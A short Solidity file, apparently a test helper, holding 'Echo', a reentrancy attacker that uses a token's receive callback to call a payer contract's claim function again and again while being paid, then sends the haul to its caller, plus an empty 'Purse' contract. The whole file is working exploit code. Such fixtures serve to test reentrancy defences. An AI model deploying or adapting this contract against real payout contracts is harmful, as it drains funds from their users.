// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Token {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function tellMe(bool wanted) external;
}

interface Payer {
    function claim(uint256 id) external returns (uint256);
    function claimTo(uint256 id, address to) external returns (uint256);
}

/// Claims again while it is being paid.
contract Echo {
    Token private immutable token;
    Payer private immutable payer;
    uint256 private number;
    uint256 private left;

    constructor(Token coin, Payer target) {
        token = coin;
        payer = target;
    }

    function begin(uint256 id, uint256 times, bool named) external {
        token.tellMe(true);
        (number, left) = (id, times);
        if (named) payer.claimTo(id, address(this));
        else payer.claim(id);
        token.tellMe(false);
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (left == 0) return;
        left -= 1;
        payer.claim(number);
    }
}

/// Keeps what it is paid.
contract Purse {}
